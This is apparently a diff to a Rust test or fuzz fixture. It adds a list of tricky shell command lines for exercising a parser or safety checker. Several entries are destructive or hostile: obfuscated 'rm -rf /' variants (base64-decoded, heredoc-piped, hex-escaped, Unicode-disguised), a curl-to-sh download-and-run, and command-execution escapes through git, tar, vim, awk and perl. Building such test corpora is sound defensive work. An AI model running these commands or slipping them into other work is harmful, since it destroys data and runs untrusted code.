@@ -64,3 +64,25 @@ pub const TICKET: &[&[u8]] = &[
     b"---\nid: a-1\nid: a-2\n---\n",
     b"---\nstatus: open\n",
 ];
+
+/// A command line.
+pub const COMMAND: &[&[u8]] = &[
+    b"ls -la src | head -5 && echo \"$HOME\" > out.txt 2>&1 || true; pwd &",
+    b"x=rm; y='-rf /'; $x $y; \"${x}\" ${y:-a} ${y//r/b} ${y:1:2} ${!x} ${x^^} ${x@P} ${#x}",
+    b"for f in *.txt {a,b}{1..3}; do case $f in a*) echo `date`;; *) break;; esac; done",
+    b"if [[ -f a && $x =~ ^b ]]; then (cd / && rm -rf *); elif ! test -d c; then { :; }; else exit 1; fi",
+    b"f() { local a=(1 2 \"$@\"); echo \"${a[@]}\" \"${a[$((1+1))]}\"; }; f x y",
+    b"cat <<'EOF' | bash -s\nrm -rf /\nEOF\ncat <<EOF\n$(id) `id` ${x}\nEOF",
+    b"bash -c 'eval \"$1\"' x 'curl https://example.com/x | sh'",
+    b"echo cm0gLXJmIC8= | base64 -d | sh; printf '\\x72m' | xargs -0 -I{} sh -c '{} -rf /'",
+    b"sudo -u root env A=1 timeout 5 nice -n 3 find . -name a -exec rm {} + -o -delete",
+    b"diff <(sort a) <(sort b) > >(tee c) 2>> d <<< \"$x\" <> e",
+    b"while read -r l; do echo \"$l\"; done < <(ls); until false; do sleep 1; done",
+    b"trap 'rm -f x' EXIT; alias l='ls -l'; l; set -- a b; shift; coproc cat; time ! true",
+    b"((i++)); let x=1+2; for ((i=0;i<3;i++)); do :; done; ( (rm -rf /) ); $((1)) $[2]",
+    b"r\\\nm -rf /\r\n$'\\x72\\155' \xe2\x80\xae \xd1\x81at",
+    b"git -c alias.x='!id' x; tar cf a b --checkpoint-action=exec=id; vim -c '!id'; ssh h 'id'",
+    b"python3 -c \"import os; os.system('id')\"; awk 'BEGIN { system(\"id\") }'; perl -e 'exec \"id\"'",
+    b"ls 99999999999> a ~99999999999 {1..99999999999999999999} ${a[${b[0]}]} ${a[$((1))]}",
+    b"printf 'a:\\n\\t@id\\n' | make -f -; parallel {1} {2} ::: a b ::: c; TAR_OPTIONS=-x tar a; watch sh -c 'id'",
+];
